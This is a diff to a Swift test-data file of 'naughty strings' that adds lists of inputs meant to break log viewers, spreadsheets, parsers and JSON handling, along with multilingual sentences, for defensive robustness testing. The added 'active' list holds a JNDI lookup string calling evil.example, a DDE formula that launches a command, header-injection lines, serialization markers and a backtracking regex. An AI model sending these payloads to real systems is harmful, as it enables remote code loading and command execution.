@@ -1,5 +1,5 @@
 /// Strings that have broken readers, logs, queries and pages elsewhere, by what they aim at.
-enum NaughtyStrings {
+package enum NaughtyStrings {
     /// White space and what only looks like it.
     static let blanks: [String] = [
         "", " ", "  ", "\t", "\n", "\r\n", "\u{A0}", "\u{1680}", "\u{2003}", "\u{2028}", "\u{2029}", "\u{202F}",
@@ -74,10 +74,40 @@ enum NaughtyStrings {
         "mailto:a@b.example",
     ]
 
+    /// What log viewers, spreadsheets, loaders and formatters act on.
+    static let active: [String] = [
+        "${jndi:ldap://evil.example/a}", "=1+1", "=cmd|' /C calc'!A1", "@SUM(1+1)", "+1+1", "-1+1", "!!binary x",
+        "&anchor *anchor", "<<: *base", "%1$s", "%-99999d", "%.*f", "{0,number,#}", "{user.name}", "%(name)s", "#if",
+        "@import", "{% raw %}", "[[[", "(((((((((((((((a+)+)+)+$", "(?i)x", "[^]", "\\1", "$1", "$&", "a{,99999}",
+        "O:8:\"stdClass\":0:{}", "\u{AC}\u{ED}\u{0}\u{5}", "Set-Cookie: a=b", "Content-Length: 0",
+        "Transfer-Encoding: chunked", "Bcc: all@contoso.example", "--boundary--", "=?utf-8?q?x?=",
+    ]
+
+    /// What closes a JSON text early or opens another in it.
+    static let documents: [String] = [
+        "\"}", "\"},{\"", "\",\"level\":\"error", "{\"data\":null}", "[1,2", "}]}", "{", "[", ",", ":", "//", "/*",
+        "*/",
+        "\\\"", "\\u0022", "\\ud800", "null,", "\u{FEFF}{}", "{\"$ref\":\"#\"}", "{\"__proto__\":{}}",
+    ]
+
+    /// Plain sentences, which must arrive as they are.
+    static let sentences: [String] = [
+        "The room is closed today; we meet next week.", "Raum gesperrt \u{2013} bis n\u{E4}chste Woche.",
+        "R\u{E9}union annul\u{E9}e\u{A0}: \u{E0} bient\u{F4}t\u{A0}!",
+        "\u{412}\u{441}\u{442}\u{440}\u{435}\u{447}\u{430} \u{43E}\u{442}\u{43C}\u{435}\u{43D}\u{435}\u{43D}\u{430}.",
+        "\u{4F1A}\u{8BAE}\u{53D6}\u{6D88}\u{3002}", "\u{4F1A}\u{8B70}\u{306F}\u{4E2D}\u{6B62}\u{3067}\u{3059}",
+        "\u{D68C}\u{C758} \u{CDE8}\u{C18C}",
+        "\u{5D4}\u{5E4}\u{5D2}\u{5D9}\u{5E9}\u{5D4} \u{5D1}\u{5D5}\u{5D8}\u{5DC}\u{5D4} (room 4)",
+        "\u{623}\u{64F}\u{644}\u{63A}\u{64A} \u{627}\u{644}\u{627}\u{62C}\u{62A}\u{645}\u{627}\u{639}, 12:30",
+        "\u{92C}\u{948}\u{920}\u{915} \u{930}\u{926}\u{94D}\u{926}", "Cancelled \u{1F622} see you\u{2026}",
+        "first line\nsecond line\n\n\tthird",
+    ]
+
     /// Much of one thing.
     static let long = ["a", "\u{E9}", "\u{1F600}", "(", "\"", "\\", " ", "\n", "a\u{301}", "%"]
         .map { String(repeating: $0, count: 500) }
 
-    static let all =
-        blanks + words + numbers + punctuation + controls + unicode + markup + queries + paths + long
+    package static let all =
+        blanks + words + numbers + punctuation + controls + unicode + markup + queries + paths + active + documents
+        + sentences + long
 }
